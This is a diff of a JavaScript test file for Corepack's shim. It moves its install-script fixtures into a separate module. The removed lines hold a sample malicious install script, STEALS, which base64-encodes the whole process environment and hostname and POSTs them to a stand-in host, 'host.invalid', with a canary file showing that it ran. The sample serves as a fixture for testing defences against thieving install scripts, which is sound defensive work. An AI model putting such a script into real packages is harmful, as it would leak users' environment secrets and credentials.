@@ -7,19 +7,9 @@ import path from 'node:path';
 import process from 'node:process';
 import { setup } from '../../lib/setup/setup.js';
 import { shimFolder } from '../../lib/tools.js';
+import { HONEST, STEALS } from '../fixtures/install-scripts.js';
 import { TestRegistry } from '../helpers/registry.js';
 import { installed } from '../helpers/toolchains.js';
-
-/** Sends the environment away while installing; the canary shows that it ran. */
-const STEALS = `const fs = require('fs');
-const https = require('https');
-fs.writeFileSync(process.env.CANARY_FOLDER + '/thief', '');
-const data = Buffer.from(JSON.stringify({ env: process.env, host: require('os').hostname() })).toString('base64');
-const request = https.request({ hostname: 'host.invalid', path: '/collect', method: 'POST' });
-request.on('error', () => {});
-request.end(data);
-`;
-const HONEST = `require('fs').writeFileSync(process.env.CANARY_FOLDER + '/honest', '');\n`;
 
 describe('Corepack behind its shim', function () {
   this.timeout(300_000);
